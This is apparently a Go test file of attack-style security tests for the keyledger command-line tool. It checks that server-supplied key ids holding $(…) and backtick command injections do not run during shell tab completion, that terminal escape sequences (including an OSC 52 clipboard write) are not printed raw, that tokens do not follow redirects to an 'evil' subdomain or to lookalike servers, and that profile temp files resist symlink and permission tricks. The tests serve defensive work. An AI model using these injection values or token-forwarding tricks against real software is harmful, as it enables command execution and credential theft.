package main

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// red5: attacks on keyledger login/logout, the profile file, connect()'s
// binding of a token to its server, and the completion scripts.

// evilKey is a key as a malicious (or compromised) server may describe it.
func evilKey(id, masked string) map[string]any {
	return map[string]any{
		"id": id, "org_id": "acme", "name": "n", "masked": masked, "status": "active", "scopes": []string{"s"},
		"created_at": time.Now().UTC().Format(time.RFC3339Nano), "created_by": map[string]any{"kind": "system", "id": "system", "name": "system"},
		"expires_at": nil, "last_used_at": nil,
	}
}

// evilServer answers keys list with the given keys, and whoami.
func evilServer(t *testing.T, keys ...map[string]any) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		switch {
		case strings.HasSuffix(r.URL.Path, "/keys"):
			_ = json.NewEncoder(w).Encode(map[string]any{"keys": keys, "next_cursor": ""})
		case r.URL.Path == "/v1/whoami":
			_ = json.NewEncoder(w).Encode(evilKey("key_01JDQ8ZKX3T5V9W2Y4A6B8C0DE", "c8k_****1a2B"))
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	return srv
}

func cleanCLIEnv(config string, extra ...string) []string {
	return append([]string{"XDG_CONFIG_HOME=" + config, "HOME=" + config, "KEYLEDGER_TOKEN=", "KEYLEDGER_SERVER=", "KEYLEDGER_ORG=", "KEYLEDGER_PROFILE="}, extra...)
}

func writeProfile(t *testing.T, config, server, token string) {
	t.Helper()
	dir := filepath.Join(config, "keyledger")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	raw, _ := json.Marshal(profiles{Profiles: map[string]profile{"default": {Server: server, Org: "acme", Token: token}}})
	if err := os.WriteFile(filepath.Join(dir, "profiles.json"), raw, 0o600); err != nil {
		t.Fatal(err)
	}
}

// TestAttackCompletionEvaluatesServerKeyIDs: bash's compgen -W expands
// each word of its list, so a key id from the server such as
// $(touch /tmp/x) is run as a command when a person presses TAB after
// `keyledger keys get `. The same for zsh (bashcompinit) and fish.
func TestAttackCompletionEvaluatesServerKeyIDs(t *testing.T) {
	for _, sh := range []string{"bash", "zsh", "fish"} {
		t.Run(sh, func(t *testing.T) {
			if _, err := exec.LookPath(sh); err != nil {
				t.Skip(sh + " is not installed")
			}
			config := t.TempDir()
			marker := filepath.Join(t.TempDir(), "pwned")
			srv := evilServer(t,
				evilKey("key_$(touch "+marker+")", "m"),
				evilKey("key_`touch "+marker+"`", "m"),
				evilKey("key_${IFS}$(touch${IFS}"+marker+")", "m"))
			bin := filepath.Dir(binary)
			if filepath.Base(binary) != "keyledger" {
				// the scripts call `keyledger`: give it that name
				bin = t.TempDir()
				if err := os.Symlink(binary, filepath.Join(bin, "keyledger")); err != nil {
					t.Fatal(err)
				}
			}
			var script string
			switch sh {
			case "bash":
				script = `source <(keyledger completion bash); COMP_WORDS=(keyledger keys get ""); COMP_CWORD=3; _keyledger; printf '%s\n' "${COMPREPLY[@]}"`
			case "zsh":
				script = `autoload -U compinit && compinit -u; source <(keyledger completion zsh); COMP_WORDS=(keyledger keys get ""); COMP_CWORD=3; emulate sh -c _keyledger; setopt ksharrays; printf '%s\n' "${COMPREPLY[@]}"`
			case "fish":
				script = `keyledger completion fish | source; complete -C 'keyledger keys get '`
			}
			cmd := exec.Command(sh, "-c", script)
			cmd.Env = append(os.Environ(), cleanCLIEnv(config, "PATH="+bin+":"+os.Getenv("PATH"), "KEYLEDGER_SERVER="+srv.URL, "KEYLEDGER_ORG=acme", "KEYLEDGER_TOKEN=t")...)
			out, err := cmd.CombinedOutput()
			t.Logf("%s completion offered (err %v):\n%s", sh, err, out)
			if _, err := os.Stat(marker); err == nil {
				t.Fatalf("HOLE: %s ran a command hidden in a key id from the server while completing `keyledger keys get <TAB>`", sh)
			}
		})
	}
}

// TestAttackKeysListPrintsServerEscapes: the name is escaped by
// printable(), but a malicious server's id, masked and scopes reach the
// terminal raw: escape sequences (retitle, clear, OSC 52 clipboard
// writes, fake lines).
func TestAttackKeysListPrintsServerEscapes(t *testing.T) {
	config := t.TempDir()
	k := evilKey("key_\x1b]52;c;ZWNobyBwd25lZA==\x07", "c8k_\x1b[2J****1a2B")
	k["scopes"] = []string{"read\x1b[1A\rFAKE LINE"}
	srv := evilServer(t, k)
	out, stderr, err := runBinary(t, t.TempDir(), cleanCLIEnv(config, "KEYLEDGER_TOKEN=t"), "keys", "list", "--server", srv.URL, "--org", "acme")
	if err != nil {
		t.Fatalf("keys list: %v %s", err, stderr)
	}
	if strings.ContainsAny(out, "\x1b\x07\r") {
		t.Fatalf("HOLE: keys list printed control characters from the server raw: %q", out)
	}
}

// recorder is a server that notes the Authorization headers it gets.
type recorder struct {
	mu   sync.Mutex
	auth []string
}

func (rec *recorder) handler(w http.ResponseWriter, r *http.Request) {
	rec.mu.Lock()
	rec.auth = append(rec.auth, r.Host+" "+r.Header.Get("Authorization"))
	rec.mu.Unlock()
	http.NotFound(w, r)
}

func (rec *recorder) got(token string) []string {
	rec.mu.Lock()
	defer rec.mu.Unlock()
	var out []string
	for _, a := range rec.auth {
		if strings.Contains(a, token) {
			out = append(out, a)
		}
	}
	return out
}

// TestAttackProfileTokenFollowsRedirects: the profile's token is sent only
// to the profile's server (by URL string); but when that server redirects,
// Go's client keeps Authorization for the same host name on any port or
// scheme, and for any subdomain. A server (or whoever can answer on one
// of its paths: a proxy, a misconfigured route) moves the token to
// another origin.
func TestAttackProfileTokenFollowsRedirects(t *testing.T) {
	t.Run("SameHostOtherPort", func(t *testing.T) {
		rec := &recorder{}
		other := httptest.NewServer(http.HandlerFunc(rec.handler))
		defer other.Close()
		otherURL, _ := url.Parse(other.URL)
		_, port, _ := net.SplitHostPort(otherURL.Host)
		legit := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "http://127.0.0.1:"+port+r.URL.RequestURI(), http.StatusTemporaryRedirect)
		}))
		defer legit.Close()
		config := t.TempDir()
		writeProfile(t, config, legit.URL, "mk_profile_secret")
		_, _, _ = runBinary(t, t.TempDir(), cleanCLIEnv(config), "keys", "list")
		if got := rec.got("mk_profile_secret"); len(got) > 0 {
			t.Fatalf("HOLE: the profile's token for %s reached another origin (port %s) after a redirect: %q", legit.URL, port, got)
		}
	})
	t.Run("Subdomain", func(t *testing.T) {
		// A proxy stands in for DNS: it plays keyledger.test, which
		// redirects to evil.keyledger.test, and notes what each gets.
		rec := &recorder{}
		proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Host == "keyledger.test" {
				http.Redirect(w, r, "http://evil.keyledger.test"+r.URL.RequestURI(), http.StatusFound)
				return
			}
			rec.handler(w, r)
		}))
		defer proxy.Close()
		config := t.TempDir()
		writeProfile(t, config, "http://keyledger.test", "mk_profile_secret")
		_, _, _ = runBinary(t, t.TempDir(), cleanCLIEnv(config, "HTTP_PROXY="+proxy.URL, "http_proxy="+proxy.URL, "NO_PROXY=", "no_proxy="), "keys", "list")
		if got := rec.got("mk_profile_secret"); len(got) > 0 {
			t.Fatalf("HOLE: the profile's token for http://keyledger.test reached evil.keyledger.test after a redirect: %q", got)
		}
	})
}

// TestAttackProfileTokenNotSentToLookalikeServers: connect() compares
// servers as strings (trailing slashes trimmed): a --server that differs
// by case, scheme, port, userinfo or path prefix must not get the token.
func TestAttackProfileTokenNotSentToLookalikeServers(t *testing.T) {
	rec := &recorder{}
	srv := httptest.NewServer(http.HandlerFunc(rec.handler))
	defer srv.Close()
	u, _ := url.Parse(srv.URL)
	config := t.TempDir()
	// The profile names a different server; the attacker's looks alike.
	writeProfile(t, config, "http://"+u.Host+"/tenant-a", "mk_profile_secret")
	for _, server := range []string{
		"http://" + u.Host, "http://" + u.Host + "/tenant-a/..", "http://" + u.Host + "/tenant-a/../", "http://" + u.Host + "/tenant-ab",
		"http://" + u.Host + "/tenant-a?", "http://" + u.Host + "/tenant-a#", "http://x@" + u.Host + "/tenant-a",
	} {
		_, _, _ = runBinary(t, t.TempDir(), cleanCLIEnv(config), "keys", "list", "--server", server)
		if got := rec.got("mk_profile_secret"); len(got) > 0 {
			t.Fatalf("HOLE: --server %s got the token of the profile for %s/tenant-a: %q", server, u.Host, got)
		}
	}
}

// TestAttackProfileSaveTempFile: save writes <path>.tmp with
// os.WriteFile(…, 0600) and renames it. WriteFile keeps the mode of a
// file already there, and follows a symlink there.
func TestAttackProfileSaveTempFile(t *testing.T) {
	login := func(t *testing.T, config, server string) (string, error) {
		cmd := exec.Command(binary, "login", "--server", server)
		cmd.Env = append(os.Environ(), cleanCLIEnv(config)...)
		cmd.Stdin = strings.NewReader("mk_login_secret\n")
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	srv := evilServer(t)
	t.Run("GroupReadableTempLeftThere", func(t *testing.T) {
		config := t.TempDir()
		dir := filepath.Join(config, "keyledger")
		_ = os.MkdirAll(dir, 0o700)
		if err := os.WriteFile(filepath.Join(dir, "profiles.json.tmp"), nil, 0o644); err != nil {
			t.Fatal(err)
		}
		if out, err := login(t, config, srv.URL); err != nil {
			t.Fatalf("login: %v %s", err, out)
		}
		info, err := os.Stat(filepath.Join(dir, "profiles.json"))
		if err != nil {
			t.Fatal(err)
		}
		if info.Mode().Perm()&0o077 != 0 {
			t.Fatalf("HOLE: profiles.json holding the key is mode %04o (from a .tmp file already there)", info.Mode().Perm())
		}
	})
	t.Run("SymlinkedTemp", func(t *testing.T) {
		config := t.TempDir()
		dir := filepath.Join(config, "keyledger")
		_ = os.MkdirAll(dir, 0o700)
		elsewhere := filepath.Join(t.TempDir(), "attacker-readable")
		if err := os.WriteFile(elsewhere, nil, 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(elsewhere, filepath.Join(dir, "profiles.json.tmp")); err != nil {
			t.Fatal(err)
		}
		out, _ := login(t, config, srv.URL)
		if raw, _ := os.ReadFile(elsewhere); strings.Contains(string(raw), "mk_login_secret") {
			t.Fatalf("HOLE: login wrote the key through a symlinked profiles.json.tmp into %s (mode 0644): %s", elsewhere, out)
		}
	})
	t.Run("GroupReadableProfilesRefused", func(t *testing.T) {
		config := t.TempDir()
		writeProfile(t, config, srv.URL, "mk_old")
		_ = os.Chmod(filepath.Join(config, "keyledger", "profiles.json"), 0o640)
		if out, err := login(t, config, srv.URL); err == nil {
			t.Fatalf("login went on with a group-readable profiles.json: %s", out)
		}
		if _, _, err := runBinary(t, t.TempDir(), cleanCLIEnv(config), "keys", "list"); err == nil {
			t.Fatal("keys list used a group-readable profiles.json")
		}
	})
	t.Run("NewFileModes", func(t *testing.T) {
		config := t.TempDir()
		if out, err := login(t, config, srv.URL); err != nil {
			t.Fatalf("login: %v %s", err, out)
		}
		for path, want := range map[string]os.FileMode{filepath.Join(config, "keyledger"): 0o700, filepath.Join(config, "keyledger", "profiles.json"): 0o600} {
			info, err := os.Stat(path)
			if err != nil || info.Mode().Perm() != want {
				t.Fatalf("%s: %v %v, want %04o", path, info.Mode(), err, want)
			}
		}
	})
}

var _ = fmt.Sprintf
